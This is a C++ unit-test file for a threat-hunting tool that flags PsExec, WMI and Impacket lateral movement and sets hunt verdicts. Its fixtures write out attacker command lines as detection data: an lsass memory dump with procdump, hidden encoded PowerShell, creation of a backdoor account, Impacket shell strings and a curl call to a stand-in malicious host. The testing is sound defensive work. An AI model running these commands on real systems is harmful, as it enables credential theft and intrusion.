#include <catch2/catch.hpp>

#include <algorithm>

#include "hunt/analysis_events.hpp"
#include "tools/hunt/analysis.hpp"
#include "tools/hunt/correlate.hpp"

using hunt::Json;
using namespace udm_events;

namespace {

bool has_marker(const std::vector<hunt::Marker>& markers, const std::string& category) {
  return std::any_of(markers.begin(), markers.end(),
                     [&](const hunt::Marker& m) { return m.category == category; });
}

const char* kPsexesvc = "C:\\Windows\\PSEXESVC.exe";

// admin_psexec: JUMP01 (10.0.0.5) runs PsExec on SRV01..SRV04 as adm-jane: pipes naming JUMP01,
// service installs and PSEXESVC children, attributed through 4624 network logons.
std::vector<hunt::Evidence> admin_psexec() {
  std::vector<hunt::Evidence> evidence, correlated;
  for (int i = 1; i <= 4; ++i) {
    std::string host = "SRV0" + std::to_string(i) + ".corp.local";
    std::string logon_id = "0x10" + std::to_string(i);
    correlated.push_back(hunt::to_evidence(
        logon(at(i * 3), host, "adm-jane", "10.0.0.5", "JUMP01", 3, logon_id), correlation()));
    evidence.push_back(hunt::to_evidence(
        pipe(at(i * 3), host, "\\PSEXESVC-JUMP01-" + std::to_string(900 + i) + "-stdin"),
        psexec_pipe()));
    evidence.push_back(hunt::to_evidence(
        service(at(i * 3), host, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), psexec_service()));
    Json child = process(at(i * 3 + 1), host, kPsexesvc, "C:\\Windows\\System32\\gpupdate.exe",
                         "gpupdate.exe /force", "adm-jane");
    child["additional"]["fields"]["LogonId"] = logon_id;
    evidence.push_back(hunt::to_evidence(child, psexec_child()));
  }
  hunt::attribute_sources(evidence, correlated);
  evidence.insert(evidence.end(), correlated.begin(), correlated.end());
  return evidence;
}

// attacker_fan_out: WKS07 moves to five hosts within 20 minutes with PsExec and WMI, dumping
// lsass, running encoded PowerShell and creating an account.
std::vector<hunt::Evidence> attacker_fan_out() {
  std::vector<hunt::Evidence> evidence;
  const char* payloads[] = {
      "cmd.exe /c procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
      "cmd.exe /c net user svc_backup P@ssw0rd! /add", "cmd.exe /c whoami /all",
      "cmd.exe /c ipconfig /all"};
  for (int i = 0; i < 5; ++i) {
    std::string host = "HOST" + std::to_string(11 + i);
    evidence.push_back(hunt::to_evidence(
        pipe(at(i * 4), host, "\\PSEXESVC-WKS07-" + std::to_string(4000 + i) + "-stdout"),
        psexec_pipe()));
    std::string image = std::string(payloads[i]).starts_with("powershell")
                            ? "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
                            : "C:\\Windows\\System32\\cmd.exe";
    Json child = process(at(i * 4 + 1), host, kPsexesvc, image, payloads[i], "alice");
    auto ev = hunt::to_evidence(child, psexec_child());
    ev.source_host = "WKS07";  // as attribute_sources would from the matching logon
    ev.attribution = "logon";
    evidence.push_back(ev);
  }
  evidence.push_back(hunt::to_evidence(
      process(at(2), "wks07.corp.local", "C:\\Windows\\System32\\cmd.exe",
              "C:\\Windows\\System32\\wbem\\WMIC.exe",
              R"(wmic /node:"HOST11","HOST12" process call create "cmd /c whoami")"),
      wmic_node()));
  return evidence;
}

}  // namespace

TEST_CASE("Impacket, renamed PsExec, random and shell services are attack-tool markers",
          "[hunt][analysis]") {
  hunt::Evidence wmiexec;
  wmiexec.command_line = R"(cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1714557600.123 2>&1)";
  CHECK(has_marker(hunt::markers_of(wmiexec), "impacket"));

  hunt::Evidence renamed;
  renamed.process = "C:\\Temp\\update.exe";
  renamed.original_file_name = "psexec.c";
  CHECK(has_marker(hunt::markers_of(renamed), "renamed_psexec"));

  hunt::Evidence renamed_pipe;
  renamed_pipe.object = "\\updsvc-WKS07-1234-stdin";
  CHECK(has_marker(hunt::markers_of(renamed_pipe), "renamed_psexec"));

  hunt::Evidence random_service;
  random_service.service_name = "BtUvXqZa";
  random_service.command_line = "%systemroot%\\kqhwzpte.exe";
  CHECK(has_marker(hunt::markers_of(random_service), "random_service"));

  hunt::Evidence comspec;
  comspec.service_name = "upd";
  comspec.command_line = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output";
  CHECK(has_marker(hunt::markers_of(comspec), "shell_service"));

  hunt::Evidence plain;
  plain.service_name = "PSEXESVC";
  plain.command_line = "%SystemRoot%\\PSEXESVC.exe";
  CHECK(hunt::markers_of(plain).empty());
}

TEST_CASE("admin-host PsExec to servers without payloads is benign_admin", "[hunt][analysis]") {
  auto evidence = admin_psexec();
  hunt::AnalysisConfig config;
  config.admin_sources = {"JUMP*"};
  auto findings = hunt::analyse(evidence, config);
  REQUIRE(findings.size() == 1);
  const auto& f = findings[0];
  CHECK(f.id == "F1");
  CHECK(f.source_host == "JUMP01");
  CHECK(f.targets == std::vector<std::string>{"SRV01", "SRV02", "SRV03", "SRV04"});
  CHECK(f.verdict == "benign_admin");
  CHECK(any_reason(f, "known admin source"));
  CHECK(f.user == "adm-jane");
  CHECK(f.evidence_count == 16);
  CHECK(f.examples.size() <= config.max_examples);

  SECTION("the same activity from a host not known as admin is suspicious") {
    auto unknown = hunt::analyse(evidence, hunt::AnalysisConfig{});
    REQUIRE(unknown.size() == 1);
    CHECK(unknown[0].verdict == "suspicious");
    CHECK(any_reason(unknown[0], "fan-out: 4 distinct targets"));
  }
}

TEST_CASE("WKS07 fanning out to five hosts with payloads is malicious, with its reasons",
          "[hunt][analysis]") {
  auto findings = hunt::analyse(attacker_fan_out(), hunt::AnalysisConfig{});
  REQUIRE(findings.size() == 1);
  const auto& f = findings[0];
  CHECK(f.source_host == "WKS07");
  CHECK(f.verdict == "malicious");
  CHECK(f.score >= 70);
  CHECK(f.targets.size() == 5);
  CHECK(any_reason(f, "fan-out: 5 distinct targets within 30 min"));
  CHECK(any_reason(f, "credential dumping"));
  CHECK(any_reason(f, "encoded PowerShell"));
  CHECK(any_reason(f, "account creation"));
  CHECK(any_reason(f, "workstation"));
  for (const auto& r : f.reasons) CHECK((r.starts_with("+") || r.starts_with("-")));
  CHECK(f.families == std::vector<std::string>{"psexec", "wmi"});
}

TEST_CASE("an unattributed Impacket wmiexec execution is flagged with the tool named",
          "[hunt][analysis]") {
  Json child = process(
      at(0), "SRV21", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\System32\\cmd.exe",
      R"(cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1714557600.123 2>&1)", "bob");
  auto findings = hunt::analyse({hunt::to_evidence(child, impacket())}, hunt::AnalysisConfig{});
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].verdict == "malicious");
  CHECK(any_reason(findings[0], "Impacket"));
  CHECK(any_reason(findings[0], "source not attributed"));
}

TEST_CASE("a source doing the same thing daily across the window is judged routine",
          "[hunt][analysis]") {
  std::vector<hunt::Evidence> evidence;
  for (int day = 0; day < 4; ++day) {
    evidence.push_back(hunt::to_evidence(
        process(at(day * 24 * 60), "BACKUP01", "C:\\Windows\\System32\\cmd.exe",
                "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /node:SRV01 process call create \"C:\\Tools\\agent.exe --sync\""),
        wmic_node()));
  }
  auto findings = hunt::analyse(evidence, hunt::AnalysisConfig{});
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].verdict == "benign_admin");
  CHECK(any_reason(findings[0], "routine: BACKUP01 did this on 4 distinct days"));
}

TEST_CASE("network logons alone make a finding only when they fan out", "[hunt][analysis]") {
  std::vector<hunt::Evidence> few, many;
  for (int i = 0; i < 5; ++i) {
    auto ev = hunt::to_evidence(
        logon(at(i), "SRV3" + std::to_string(i), "bob", "10.0.0.7", "WKS07"), correlation());
    (i < 2 ? few : many).push_back(ev);
    if (i < 2) many.push_back(ev);
  }
  CHECK(hunt::analyse(few, hunt::AnalysisConfig{}).empty());
  auto findings = hunt::analyse(many, hunt::AnalysisConfig{});
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].targets.size() == 5);
}

namespace {

hunt::QueryOutcome outcome(const std::string& id, const std::string& status,
                           const std::string& purpose = "detection") {
  hunt::QueryOutcome q;
  q.id = id;
  q.status = status;
  q.purpose = purpose;
  if (status == "error") q.error = "timeout after 60 s";
  if (status == "not_run") q.error = "no SIEM configured";
  return q;
}

}  // namespace

TEST_CASE("no_findings is allowed only when every detection query ran", "[hunt][analysis]") {
  hunt::HuntResult result;
  result.status = "completed";
  result.queries = {outcome("psexec_service_install", "empty"), outcome("wmiprvse_child", "ok"),
                    outcome("network_logons", "truncated", "context")};
  hunt::AnalysisConfig config;
  config.admin_sources = {"JUMP*"};
  result.findings = hunt::analyse(admin_psexec(), config);
  hunt::decide_verdict(result);
  CHECK(result.verdict == "no_findings");
  CHECK(result.verdict_reason.find("1 benign admin") != std::string::npos);
  CHECK(result.verdict_reason.find("truncated") != std::string::npos);
  CHECK(result.verdict_reason.find("network_logons") != std::string::npos);

  SECTION("a failed query makes it inconclusive and is named") {
    result.queries.push_back(outcome("wmic_node", "error"));
    hunt::decide_verdict(result);
    CHECK(result.verdict == "inconclusive");
    CHECK(result.verdict_reason.find("wmic_node (error: timeout after 60 s)") != std::string::npos);
    CHECK(result.verdict_reason.find("3 of 4") != std::string::npos);
  }
  SECTION("a query that was never sent makes it inconclusive too") {
    result.queries.push_back(outcome("impacket_exec", "not_run"));
    hunt::decide_verdict(result);
    CHECK(result.verdict == "inconclusive");
    CHECK(result.verdict_reason.find("impacket_exec (not_run: no SIEM configured)") !=
          std::string::npos);
  }
  SECTION("nothing run is inconclusive") {
    result.queries.clear();
    hunt::decide_verdict(result);
    CHECK(result.verdict == "inconclusive");
  }
  SECTION("a failed correlation search does not block no_findings but is named") {
    result.queries.push_back(outcome("correlate:SRV01:network", "error", "correlation"));
    hunt::decide_verdict(result);
    CHECK(result.verdict == "no_findings");
    CHECK(result.verdict_reason.find("correlate:SRV01:network") != std::string::npos);
  }
  SECTION("a dry run has no verdict") {
    result.status = "planned";
    hunt::decide_verdict(result);
    CHECK(result.verdict.empty());
    CHECK(result.verdict_reason.find("dry run") != std::string::npos);
  }
}

TEST_CASE("malicious findings confirm the hunt even when a query failed", "[hunt][analysis]") {
  hunt::HuntResult result;
  result.status = "partial";
  result.queries = {outcome("psexec_pipes", "ok"), outcome("wmic_node", "error")};
  result.findings = hunt::analyse(attacker_fan_out(), hunt::AnalysisConfig{});
  hunt::decide_verdict(result);
  CHECK(result.verdict == "confirmed");
  CHECK(result.verdict_reason.find("F1 WKS07") != std::string::npos);
  CHECK(result.verdict_reason.find("did not run: wmic_node") != std::string::npos);

  auto follow = hunt::follow_ups(result);
  auto mentions = [&](const std::string& text) {
    return std::any_of(follow.begin(), follow.end(),
                       [&](const std::string& f) { return f.find(text) != std::string::npos; });
  };
  CHECK(mentions("Isolate WKS07"));
  CHECK(mentions("Credential-access investigation"));
  CHECK(mentions("Compromised user account response for alice"));
  CHECK(mentions("net user /add"));
  CHECK(mentions("Re-run the hunt once these searches can run: wmic_node"));
}

TEST_CASE("entities to enrich come from suspicious findings, deduplicated and bounded",
          "[hunt][analysis]") {
  auto findings = hunt::analyse(attacker_fan_out(), hunt::AnalysisConfig{});
  hunt::Finding benign;
  benign.verdict = "benign_admin";
  benign.source_host = "JUMP01";
  findings.push_back(benign);
  findings[0].examples[0].hashes = {"aa11"};
  findings[0].examples[0].command_line += " & curl http://evil.example.com/x";
  auto entities = hunt::entities_to_enrich(findings, 20);
  auto find = [&](const std::string& v) {
    return std::find_if(entities.begin(), entities.end(),
                        [&](const hunt::Entity& e) { return e.value == v; });
  };
  REQUIRE(find("WKS07") != entities.end());
  CHECK(find("WKS07")->kind == "host");
  CHECK(find("WKS07")->roles == std::vector<std::string>{"source"});
  CHECK(find("alice") != entities.end());
  CHECK(find("aa11") != entities.end());
  CHECK(find("evil.example.com") != entities.end());
  CHECK(find("evil.example.com")->kind == "domain");
  CHECK(find("HOST15") != entities.end());
  CHECK(find("JUMP01") == entities.end());
  CHECK(hunt::entities_to_enrich(findings, 2).size() == 2);
  CHECK(hunt::entities_to_enrich(findings, 2)[0].value == "WKS07");
}

TEST_CASE("entity and intel summaries are one line", "[hunt][analysis]") {
  std::string text =
      "Entity Summary for WKS07:\n\nPrimary Entity:\nEntity Type: ASSET\nFirst Seen: "
      "2024-04-01T00:00:00Z\nLast Seen: 2024-05-01T10:00:00Z\n\nRelated Entities (3):\n1. Type: "
      "USER\n\nAssociated Alerts:\n- Rule: PsExec lateral movement, Count: 4\n\nTimeline "
      "Summary:\nTotal Events: 1520\nTotal Alerts: 4\n";
  auto line = hunt::summarize_entity_text(text);
  CHECK(line.find('\n') == std::string::npos);
  CHECK(line.find("asset") != std::string::npos);
  CHECK(line.find("1520 events, 4 alerts") != std::string::npos);
  CHECK(line.find("PsExec lateral movement (4)") != std::string::npos);
  CHECK(hunt::summarize_entity_text("No information found for entity: X") == "not found");
  CHECK(hunt::summarize_entity_text("Error looking up entity: 403").starts_with("error: "));

  Json report = {{"type", "ip_address"},
                 {"id", "203.0.113.9"},
                 {"attributes",
                  {{"last_analysis_stats",
                    {{"malicious", 3}, {"suspicious", 1}, {"harmless", 60}, {"undetected", 6}}},
                   {"reputation", -12}}}};
  CHECK(hunt::summarize_intel(report) == "3/70 engines malicious, 1 suspicious, reputation -12");
  CHECK(hunt::summarize_intel({{"error", "VirusTotal API Error: NotFoundError"}})
            .starts_with("error: VirusTotal"));
  CHECK(hunt::summarize_intel(Json::object()) == "no analysis data");
  CHECK(hunt::summarize_intel({{"attributes", {{"last_analysis_stats", "oops"}}}}) ==
        "no analysis data");
}
